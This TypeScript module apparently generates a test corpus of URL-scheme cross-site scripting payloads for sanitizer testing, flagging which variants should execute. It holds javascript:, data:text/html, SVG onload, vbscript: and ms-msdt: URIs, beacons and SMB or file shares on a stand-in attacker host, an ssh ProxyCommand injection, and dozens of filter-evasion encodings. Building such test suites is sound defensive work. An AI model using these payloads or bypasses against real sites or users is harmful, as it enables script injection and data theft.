import { attacker, leak, script, type Template } from "./payload.js";
import { commonPlaces, places, type Place } from "./places.js";

interface Scheme {
  readonly write: (id: string) => string;
  /** The same address runs where it is loaded, not only where it is clicked. */
  readonly loads?: boolean;
}

const page = (id: string) => `<img src=${leak(id)}>`;
const vector = (id: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(id)}"/>`;

const schemes: readonly Scheme[] = [
  { write: (id) => `javascript:${script(id)}`, loads: true },
  { write: (id) => `javascript://example.com/%0A${script(id)}` },
  { write: (id) => `javascript:${script(id)}//https://example.com/` },
  { write: (id) => `javascript:void(${script(id)})` },
  { write: (id) => `javascript:top['acted']('${id}')` },
  { write: (id) => `javascript:(()=>${script(id)})()`.replace("=>", "=%3E") },
  { write: (id) => `javascript:'%3Cimg%20src=${leak(id)}%3E'` },
  { write: (id) => `data:text/html,${encodeURIComponent(page(id))}`, loads: true },
  { write: (id) => `data:text/html;base64,${btoa(page(id))}` },
  { write: (id) => `data:text/html;charset=utf-8;base64,${btoa(page(id))}` },
  { write: (id) => `data:text/xml,${encodeURIComponent(vector(id))}` },
  { write: (id) => `data:application/xhtml+xml;base64,${btoa(vector(id))}` },
  { write: (id) => `data:image/svg+xml,${encodeURIComponent(vector(id))}` },
  { write: (id) => `data:image/svg+xml;base64,${btoa(vector(id))}` },
  { write: (id) => `data:text/javascript,${script(id)}` },
  { write: (id) => `data:,${id}` },
  { write: (id) => `data:image/png;${id},text/html` },
  { write: (id) => `vbscript:MsgBox("${id}")`.replaceAll('"', "'") },
  { write: (id) => `livescript:${script(id)}` },
  { write: (id) => `mocha:${script(id)}` },
  { write: (id) => `blob:${attacker}/${id}` },
  { write: (id) => `filesystem:${attacker}/temporary/${id}` },
  { write: (id) => `file:///etc/${id}` },
  { write: (id) => `file://attacker.test/share/${id}` },
  { write: (id) => `view-source:${attacker}/${id}` },
  { write: (id) => `about:blank#${id}` },
  { write: (id) => `about:srcdoc#${id}` },
  { write: (id) => `chrome://settings/${id}` },
  { write: (id) => `chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/${id}` },
  { write: (id) => `devtools://devtools/${id}` },
  { write: (id) => `res://ieframe.dll/${id}` },
  { write: (id) => `jar:${attacker}/${id}!/a` },
  { write: (id) => `feed:javascript:${script(id)}` },
  { write: (id) => `ms-msdt:/id%20${id}` },
  { write: (id) => `search-ms:query=${id}` },
  { write: (id) => `ms-officecmd:${id}` },
  { write: (id) => `intent://attacker.test/${id}#Intent;scheme=https;end` },
  { write: (id) => `android-app://attacker.test/${id}` },
  { write: (id) => `vscode://attacker.test/${id}` },
  { write: (id) => `ftp://attacker.test/${id}` },
  { write: (id) => `ws://attacker.test/${id}` },
  { write: (id) => `ldap://attacker.test/${id}` },
  { write: (id) => `smb://attacker.test/${id}` },
  { write: (id) => `ssh://-oProxyCommand=${id}/` },
  { write: (id) => `sms:+1?body=${id}` },
  { write: (id) => `facetime:${id}` },
  { write: (id) => `magnet:?xt=${id}` },
  { write: (id) => `steam://run/${id}` },
  { write: (id) => `x-unknown:${id}` },
];

/** Every scheme in every place. */
export function* schemePayloads(): Generator<Template> {
  for (const [index, scheme] of schemes.entries()) {
    for (const place of index < 8 ? places : commonPlaces) {
      const canLoad = scheme.loads === true && place.name === "raw frame";
      yield {
        kind: "scheme",
        canAct: place.makes === "link" || canLoad,
        write: (id) => place.write(scheme.write(id)),
      };
    }
  }
}

interface Obfuscation {
  readonly apply: (url: string) => string;
  /** A browser still reads the scheme: where entities and escapes are read, or everywhere. */
  readonly works: "decoded" | "everywhere" | "never";
}

function entities(from: number, to: number, write: (code: number) => string): Obfuscation["apply"] {
  return (url) =>
    url.slice(0, from) + Array.from(url.slice(from, to), (char) => write(char.charCodeAt(0))).join("") + url.slice(to);
}

function insert(at: number, text: string): Obfuscation["apply"] {
  return (url) => url.slice(0, at) + text + url.slice(at);
}

function obfuscations(scheme: string): readonly Obfuscation[] {
  const end = scheme.length;
  const decoded = (apply: Obfuscation["apply"]) => ({ apply, works: "decoded" }) as const;
  const never = (apply: Obfuscation["apply"]) => ({ apply, works: "never" }) as const;
  const always = (apply: Obfuscation["apply"]) => ({ apply, works: "everywhere" }) as const;
  const respell = (spelled: string) => (url: string) => spelled + url.slice(end);
  const ignored = [9, 10, 13];
  const leading = [1, 8, 9, 10, 12, 13, 14, 27, 31, 32];
  const spaces = [
    "\u00A0",
    "\u1680",
    "\u2003",
    "\u2028",
    "\u3000",
    "\u200B",
    "\uFEFF",
    "\u202E",
    "\u00AD",
    "\u2060",
    "\u0085",
    "\u{E0041}",
  ];
  return [
    always((url) => url.slice(0, end).toUpperCase() + url.slice(end)),
    always(
      (url) =>
        Array.from(url.slice(0, end), (char, index) => (index % 2 ? char.toUpperCase() : char)).join("") +
        url.slice(end),
    ),
    decoded(entities(0, end, (code) => `&#${code};`)),
    decoded(entities(0, end, (code) => `&#x${code.toString(16)};`)),
    decoded(entities(0, end, (code) => `&#X${code.toString(16).toUpperCase()};`)),
    decoded(entities(0, end, (code) => `&#${String(code).padStart(7, "0")};`)),
    decoded(entities(0, end, (code) => `&#x${code.toString(16).padStart(6, "0")};`)),
    decoded(entities(0, 1, (code) => `&#${code};`)),
    decoded(entities(end - 1, end, (code) => `&#x${code.toString(16)};`)),
    decoded(entities(end, end + 1, (code) => `&#${code};`)),
    decoded(entities(end, end + 1, (code) => `&#x${code.toString(16)};`)),
    decoded((url) => url.replace(":", "&colon;")),
    decoded((url) => url.replace(":", "\\:")),
    decoded(entities(0, end + 1, (code) => `&#${code};`)),
    never(entities(0, end, (code) => `&#${code} `.trim())),
    never(entities(0, end, (code) => `&#x${code.toString(16)}`)),
    never(entities(0, end, (code) => `&amp;#${code};`)),
    never(entities(0, end, (code) => `&#${String(code).padStart(9, "0")};`)),
    never(entities(0, end, (code) => `%${code.toString(16)}`)),
    never((url) => url.replace(":", "%3A")),
    never((url) => url.replace(":", "%253A")),
    never(entities(0, end, (code) => `\\u00${code.toString(16)}`)),
    never(entities(0, end, (code) => `\\x${code.toString(16)}`)),
    never(respell(Array.from(scheme, (char) => String.fromCodePoint(char.charCodeAt(0) + 0xfee0)).join(""))),
    never((url) => url.replace(":", "\uFF1A")),
    never((url) => url.replace(":", "\uA789")),
    never((url) => url.replace(":", "&#58")),
    never(respell(scheme.replace("s", "\u017F").replace("a", "\u0430"))),
    never(insert(2, "/**/")),
    never(insert(0, "\\")),
    never(insert(3, "\\")),
    never(insert(0, "./")),
    never(insert(0, "#")),
    never(insert(0, "?")),
    never(insert(0, "url(")),
    always((url) => `${url}#https://example.com`),
    ...ignored.map((code) => decoded(insert(3, `&#${code};`))),
    ...ignored.map((code) => decoded(insert(end, `&#x${code.toString(16)};`))),
    decoded(insert(4, "&Tab;")),
    decoded(insert(4, "&NewLine;")),
    decoded(insert(2, "&#9;&#10;&#13;&#9;")),
    ...leading.map((code) => decoded(insert(0, `&#${code};`))),
    decoded(insert(0, "&#1;&#32;&#9;&#31;")),
    never(insert(0, "&#0;")),
    never(insert(3, "&#0;")),
    never(insert(3, "\0")),
    never(insert(3, "&#11;")),
    never(insert(3, "&#127;")),
    ...spaces.map((space) => never(insert(0, space))),
    ...spaces.map((space) => never(insert(4, space))),
    ...spaces.map((space) => never(insert(end, space))),
    never(insert(0, "&nbsp;")),
    never(insert(4, "&shy;")),
    never(insert(4, "&ZeroWidthSpace;")),
    never((url) => `${scheme}:${url}`),
    never(insert(0, "https:")),
    never(insert(0, "//")),
    never(insert(0, "/")),
  ];
}

function acts(works: Obfuscation["works"], place: Place): boolean {
  if (place.makes !== "link" || works === "never") return false;
  // Raw markup is decoded by the browser, an autolink by nobody.
  return works === "everywhere" || place.name !== "autolink";
}

/** The worst schemes in every spelling. */
export function* obfuscatedPayloads(): Generator<Template> {
  const targets = [
    { scheme: "javascript", write: (id: string) => `javascript:${script(id)}`, among: commonPlaces },
    {
      scheme: "data",
      write: (id: string) => `data:text/html,${encodeURIComponent(page(id))}`,
      among: commonPlaces.slice(0, 3),
    },
    { scheme: "vbscript", write: (id: string) => `vbscript:${id}`, among: commonPlaces.slice(0, 2) },
  ];
  for (const { scheme, write, among } of targets) {
    for (const { apply, works } of obfuscations(scheme)) {
      for (const place of among) {
        // Doubled or prefixed schemes still are schemes, only others; what is said of them need not be exact.
        yield { kind: "obfuscation", canAct: acts(works, place), write: (id) => place.write(apply(write(id))) };
      }
    }
  }
}
